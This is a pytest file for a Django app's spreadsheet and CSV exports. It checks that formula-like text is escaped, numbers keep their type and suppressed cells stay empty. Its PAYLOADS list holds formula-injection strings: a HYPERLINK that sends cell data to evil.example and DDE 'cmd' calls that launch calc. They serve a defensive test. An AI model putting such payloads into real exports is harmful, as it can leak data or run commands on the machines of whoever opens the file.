"""Spreadsheets: numbers stay numbers, texts stay texts, hidden cells stay empty."""

from __future__ import annotations

import csv
import subprocess
import sys
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.utils.translation import override
from openpyxl import load_workbook

from accounts.models import Organization
from assessments.selectors.scores import round_scores
from reports.frames import neutral, results_frames, roadmap_frame, sheet_name, to_csv, to_xlsx
from roadmaps.selectors import roadmap_plan
from tests.reports.rounds import Planned, make_roadmap, make_round

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def frame_of(*values: Any) -> Any:
    from pandas import DataFrame

    return DataFrame({"x": list(values)}, dtype=object)


def cells(content: bytes, sheet: str | None = None) -> list[list[Any]]:
    book = load_workbook(BytesIO(content))
    found = book[sheet] if sheet else book.active
    return [list(row) for row in found.iter_rows()]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_looks_like_a_formula_is_text_in_the_workbook(payload: str) -> None:
    cell = cells(to_xlsx({"s": frame_of(payload)}))[1][0]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_looks_like_a_formula_is_text_in_the_csv(payload: str) -> None:
    assert csv_rows(to_csv(frame_of(payload)))[1] == [f"'{payload}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_header_that_looks_like_a_formula_is_text(payload: str) -> None:
    frame = frame_of(1).rename(columns={"x": payload})
    assert csv_rows(to_csv(frame))[0] == [f"'{payload}"]
    assert cells(to_xlsx({"s": frame}))[0][0].data_type == "s"


def test_numbers_stay_numbers_also_negative_ones() -> None:
    values = [-2.5, 3, 0.25, -7]
    assert [row[0].value for row in cells(to_xlsx({"s": frame_of(*values)}))[1:]] == values
    assert [neutral(value) for value in values] == values


@pytest.mark.parametrize("missing", [None, float("nan"), float("inf")])
def test_what_is_missing_is_an_empty_cell(missing: Any) -> None:
    assert cells(to_xlsx({"s": frame_of(missing, 1)}))[1][0].value is None
    assert csv_rows(to_csv(frame_of(missing, 1)))[1] in ([""], [])


def test_csv_follows_rfc_4180_in_utf_8_with_a_mark() -> None:
    content = to_csv(frame_of('a "b", c\nd', "ñ"))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert b'"a ""b"", c\nd"' in content
    assert csv_rows(content) == [["x"], ['a "b", c\nd'], ["ñ"]]


def test_characters_that_a_workbook_refuses_are_dropped() -> None:
    assert cells(to_xlsx({"s": frame_of("a\x00b\x07c\ud800d")}))[1][0].value == "abcd"
    assert csv_rows(to_csv(frame_of("a\x00b\ud800")))[1] == ["ab"]


def test_headers_are_bold_and_stay_in_sight() -> None:
    book = load_workbook(BytesIO(to_xlsx({"s": frame_of("a" * 500)})))
    sheet = book.active
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert 8 <= sheet.column_dimensions["A"].width <= 60


@pytest.mark.parametrize(
    ("name", "expected"),
    [("a/b:c*[d]?", "a b c  d"), ("x" * 40, "x" * 31), ("", "1"), ("'q'", "q")],
)
def test_sheet_names_are_ones_that_a_workbook_accepts(name: str, expected: str) -> None:
    assert sheet_name(name) == expected


def test_two_sheets_never_share_a_name() -> None:
    assert sheet_name("Teams", ["teams"]) == "Teams 2"


def test_a_round_has_its_areas_capabilities_and_teams(planned: Planned) -> None:
    with override("en"):
        frames = results_frames(planned.assessment, planned.scores)
        content = to_xlsx(frames)
    assert list(frames) == ["Areas", "Capabilities", "Teams", "Role groups", "All figures"]
    capabilities = frames["Capabilities"]
    assert len(capabilities) == 30
    card = planned.scores.scorecard
    for code, mean in zip(capabilities["Code"], capabilities["Mean"], strict=True):
        score = card.capability(code)
        assert mean == (None if score.mean is None else round(score.mean, 4))
    assert load_workbook(BytesIO(content)).sheetnames == list(frames)


def test_suppressed_cells_are_empty(planned: Planned) -> None:
    card = planned.scores.scorecard
    hidden = [c for c in card.cells if not c.shown and c.n is None]
    assert hidden, "the round has something to hide"
    with override("en"):
        teams = results_frames(planned.assessment, planned.scores)["Teams"].set_index("Code")
    names = {team.key: team.name for team in planned.scores.teams}
    for cell in hidden:
        assert teams.loc[cell.capability, names[cell.team]] is None
    shown = [c for c in card.cells if c.shown]
    for cell in shown:
        said = teams.loc[cell.capability, names[cell.team]]
        assert said == (f"{cell.bound}{cell.mean}" if cell.bound else round(cell.mean, 4))


def test_a_capability_answered_by_too_few_has_no_counts() -> None:
    owner = Organization.objects.create(slug="few", name="Few")

    def answering(_area: str, code: str, _team: str, seat: int, _dice: Any) -> int | str:
        return (5 if seat < 3 else "dont_know") if code == "DA1" else 2 + seat % 2

    assessment = make_round(owner, sizes={"Uno": 9}, answering=answering)
    with override("en"):
        frame = results_frames(assessment, round_scores(assessment))["Capabilities"]
    row = frame.set_index("Code").loc["DA1"]
    for column in ("Mean", "Answers", "Level 1", "Level 5", "Don't know", "Does not apply"):
        assert row[column] is None


def test_a_roadmap_has_every_initiative_and_its_numbers(planned: Planned) -> None:
    plan = planned.plan
    with override("en"):
        frame = roadmap_frame(plan)
    assert len(frame) == len(plan.lines) + len(plan.unmeasured) + len(plan.excluded)
    first = frame.iloc[0]
    assert first["Rank"] == 1
    assert first["Impact"] == round(plan.lines[0].ranked.benefit, 4)
    assert first["First quarter"] == "Q1 2027"


def test_an_initiatives_hostile_title_is_neutral_and_its_reason_is_kept(planned: Planned) -> None:
    roadmap = make_roadmap(planned.assessment)
    first, second = roadmap.initiatives.all()[:2]
    first.own_title = PAYLOADS[0]
    first.save()
    second.excluded_reason = "@later"
    second.save()
    with override("en"):
        rows = csv_rows(to_csv(roadmap_frame(roadmap_plan(roadmap))))
    assert f"'{PAYLOADS[0]}" in {row[1] for row in rows}
    assert "'@later" in {row[-1] for row in rows}


def test_pandas_is_not_imported_by_the_pages() -> None:
    code = "import sys, django; django.setup(); import reports.views; print(sys.modules.keys())"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "'reports.frames'" in done.stdout
    assert "'pandas'" not in done.stdout
